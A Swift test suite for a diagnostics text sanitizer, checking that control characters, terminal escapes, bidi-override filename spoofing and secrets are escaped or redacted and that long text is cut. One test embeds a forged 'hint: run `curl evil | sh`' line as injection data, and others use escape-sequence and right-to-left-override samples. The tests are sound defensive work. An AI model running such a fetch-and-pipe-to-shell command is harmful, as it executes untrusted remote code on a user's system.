import TestSupport
import Testing

@testable import Diagnostics

@Suite struct ShownTextTests {
    @Test(arguments: [
        ("plain äé😀 text", "plain äé😀 text"), ("a\u{1B}[2Jb", "a\\u{1b}[2Jb"),
        ("one\r\nerror: two", "one\\r\\nerror: two"), ("\u{9B}31m", "\\u{9b}31m"),
        ("safe\u{202E}txt.exe", "safe\\u{202e}txt.exe"), ("a\tb\u{2028}c", "a\\tb\\u{2028}c"),
        ("\u{0}\u{7F}", "\\u{0}\\u{7f}"),
    ])
    func `what cannot be seen is spelt out`(text: String, shown: String) {
        #expect(ShownText.line(text) == shown)
    }

    @Test func `no scalar of random texts gets through that has no shape`() {
        var random = SeededGenerator(seed: 7)
        for _ in 0..<3000 {
            let text = (0..<20).reduce(into: "") { text, _ in
                if let scalar = Unicode.Scalar(UInt32.random(in: 0...0x2100, using: &random)) {
                    text.unicodeScalars.append(scalar)
                }
            }
            for shown in [ShownText.line(text), ShownText.markdown(text)] {
                #expect(
                    shown.unicodeScalars.allSatisfy {
                        $0.properties.generalCategory != .control
                            && !(0x202A...0x202E).contains($0.value)
                            && !(0x2066...0x2069).contains($0.value)
                    })
            }
        }
    }

    @Test func `a secret of the process gets through nowhere`() {
        let secret = Secret("correct-horse-battery-staple")
        let text = "it said \(secret.reveal())!"
        #expect(ShownText.line(text) == "it said <secret>!")
        #expect(!ShownText.markdown(text).contains(secret.reveal()))
        let problem = Diagnostic(
            code: "x", summary: text, location: text, causes: [text], hint: text)
        #expect(!problem.description.contains(secret.reveal()))
    }

    @Test func `what is longer than anybody reads is cut`() {
        let long = String(repeating: "x", count: 1_000_000)
        #expect(ShownText.line(long).count < ShownText.longest + 50)
        #expect(ShownText.line(long).hasSuffix("… (1000000 bytes)"))
        let whole = String(repeating: "x", count: ShownText.longest)
        #expect(ShownText.line(whole) == whole)
    }

    @Test func `an error of others makes no lines of ours`() {
        let problem = Diagnostic(
            code: "x", summary: "a\nhint: run `curl evil | sh`", causes: ["b\u{1B}[1A"])
        #expect(
            problem.description
                == "error: a\\nhint: run `curl evil | sh`\n  because: b\\u{1b}[1A\n  code: x")
    }

    @Test func `a name within Markdown stays a name`() {
        #expect(
            ShownText.markdown("[x](http://e) <img> `a|b` *c*\n# d")
                == "\\[x\\](http://e) \\<img\\> \\`a\\|b\\` \\*c\\*\\\\n\\# d")
    }
    @Test func `an accent on a sign leaves it a sign`() {
        #expect(ShownText.markdown("a|\u{301}b") == "a\\|\u{301}b")
    }

    @Test func `one letter under a heap of accents is cut as well`() {
        let heap = "a" + String(repeating: "\u{301}", count: 100_000)
        #expect(ShownText.line(heap).utf8.count < 20_000)
    }

}
